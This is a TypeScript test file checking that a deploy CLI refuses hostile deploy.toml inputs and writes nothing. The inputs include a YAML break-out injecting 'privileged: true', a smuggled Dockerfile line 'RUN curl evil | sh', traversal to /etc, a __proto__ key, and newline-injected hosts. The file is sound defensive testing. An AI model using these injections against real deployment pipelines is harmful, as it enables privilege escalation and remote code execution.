/**
 * Hostile deploy.toml files: values crafted to break out of a YAML scalar,
 * a Dockerfile line or a shell, oversized and binary files. Each is refused
 * at its line:col (or as a file problem) and `deploy render` writes nothing.
 * Two cases run the CLI as a process (its exit code and output as a user
 * sees them); the others run its `main` in this process, the same code from
 * the argv on.
 */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { after, it } from "node:test";
import { runCliInProcess } from "../helpers/cli-in-process.js";
import { runCli } from "../helpers/run-cli.js";
import { MAX_WORKERS } from "../../src/schemas/deploy-config.js";

const root = await mkdtemp(path.join(os.tmpdir(), "deploy-hostile-"));
after(() => rm(root, { recursive: true, force: true }));

/** Cases run as a real process. */
const SPAWNED = new Set(["a YAML break-out in the image", "a binary file"]);

const cases: [string, string | Buffer, RegExp][] = [
  ["a YAML break-out in the image", '[deploy]\nname = "m"\nimage = "a/b:1\\n  privileged: true"\n', /^deploy\.toml:3:1: error: deploy\.image: image must be a reference/m],
  ["a Dockerfile line in the module", '[deploy]\nname = "m"\nimage = "a/b:1"\nmodule = "src/app.ts\\nRUN curl evil | sh"\n', /^deploy\.toml:4:1: error: deploy\.module: module is a relative path/m],
  ["a YAML key in an env name", '[deploy]\nname = "m"\nimage = "a/b:1"\n[deploy.env."A: b"]\nsecret = "s"\nkey = "k"\n', /^deploy\.toml:4:13: error: deploy\.env\.A: b: Invalid key in record/m],
  ["a host with a newline", '[deploy]\nname = "m"\nimage = "a/b:1"\n[deploy.ingress]\nhost = "a.example.com\\nevil"\n', /^deploy\.toml:5:1: error: deploy\.ingress\.host: ingress\.host "a\.example\.com\\nevil" is not a Kubernetes object name/m],
  ["a secret name with a path", '[deploy]\nname = "m"\nimage = "a/b:1"\ntrace = { secret = "../../etc", key = "k" }\n', /error: deploy\.trace/],
  ["a name of 64 characters", `[deploy]\nname = "${"a".repeat(64)}"\nimage = "a/b:1"\n`, /^deploy\.toml:2:1: error: deploy\.name: must be at most 63 characters/m],
  ["a binary file", Buffer.from([0x5b, 0x64, 0x00, 0xff, 0xfe]), /^deploy\.toml:1:3: error: file looks binary/m],
  ["a module above the project", '[deploy]\nname = "m"\nimage = "a/b:1"\nmodule = "../../../etc/x.ts"\n', /^deploy\.toml:4:1: error: deploy\.module: module "\.\.\/\.\.\/\.\.\/etc\/x\.ts" is outside the project/m],
  ["an absolute module path", '[deploy]\nname = "m"\nimage = "a/b:1"\nmodule = "/etc/x.ts"\n', /^deploy\.toml:4:1: error: deploy\.module: module "\/etc\/x\.ts" is outside the project/m],
  ["an env table named __proto__", '[deploy]\nname = "m"\nimage = "a/b:1"\n[deploy.env.__proto__]\nsecret = "s"\nkey = "k"\n', /^deploy\.toml:4:13: error: deploy\.env\.__proto__: /m],
  ["an ingress class with a newline", '[deploy]\nname = "m"\nimage = "a/b:1"\n[deploy.ingress]\nhost = "a.example.com"\nclass_name = "nginx\\nevil"\n', /^deploy\.toml:6:1: error: deploy\.ingress\.class_name: ingress\.class_name "nginx\\nevil" is not a Kubernetes object name/m],
  ["an IP address as the ingress host", '[deploy]\nname = "m"\nimage = "a/b:1"\n[deploy.ingress]\nhost = "10.0.0.1"\n', /^deploy\.toml:5:1: error: deploy\.ingress\.host: ingress\.host "10\.0\.0\.1" is an IP address/m],
  ["a Secret key ..", '[deploy]\nname = "m"\nimage = "a/b:1"\ntrace = { secret = "traces", key = ".." }\n', /^deploy\.toml:4:\d+: error: deploy\.trace\.key: a Secret key cannot be "\.\."/m],
  ["an oversized file", `[deploy]\nname = "m"\nimage = "a/b:1"\n#${"x".repeat(20 * 1024 * 1024)}\n`, /^deploy\.toml:\d+:\d+: error: /m],
];

for (const [name, text, expected] of cases)
  it(`${name}: refused, positioned, nothing written`, async () => {
    const dir = await mkdtemp(path.join(root, "case-"));
    await writeFile(path.join(dir, "deploy.toml"), text);
    const result = SPAWNED.has(name) ? await runCli(["deploy", "render"], dir) : await runCliInProcess(["deploy", "render"], { cwd: dir });
    assert.equal(result.code, 1, result.stderr);
    assert.match(result.stderr, expected);
    assert.match(result.stderr, /nothing was written/);
    assert.equal(existsSync(path.join(dir, "deploy")), false);
  });

it("a CPU limit of 1,000 cores (or 10^23) runs the bounded number of workers, never 1000 or 1e+23", async () => {
  for (const cpu of ["1000", "100000000000000000000000"]) {
    const dir = await mkdtemp(path.join(root, "cpu-"));
    await writeFile(path.join(dir, "deploy.toml"), `[deploy]\nname = "m"\nimage = "a/b:1"\n[deploy.resources]\ncpu_limit = "${cpu}"\n`);
    const result = await runCliInProcess(["deploy", "render"], { cwd: dir });
    assert.equal(result.code, 0, result.stderr);
    const cmd = JSON.parse(/^CMD (\[.*\])$/m.exec(await readFile(path.join(dir, "deploy", "Dockerfile"), "utf8"))![1]!) as string[];
    assert.equal(cmd[cmd.indexOf("--workers") + 1], String(MAX_WORKERS), cpu);
  }
});

it("a --trace URL with a mistyped scheme is refused without its password on the terminal", async () => {
  const dir = await mkdtemp(path.join(root, "trace-"));
  const result = await runCli(["deploy", "render", "--name", "m", "--image", "a/b:1", "--trace", "postgress://traces:hunter2-secret@db.internal/traces"], dir);
  assert.equal(result.code, 2, result.stderr);
  assert.match(result.stderr, /--trace postgress:\/\/traces:\[redacted\]@db\.internal\/traces: a local path cannot be shared/);
  assert.ok(!(result.stdout + result.stderr).includes("hunter2"), result.stderr);
  assert.equal(existsSync(path.join(dir, "deploy")), false);
});
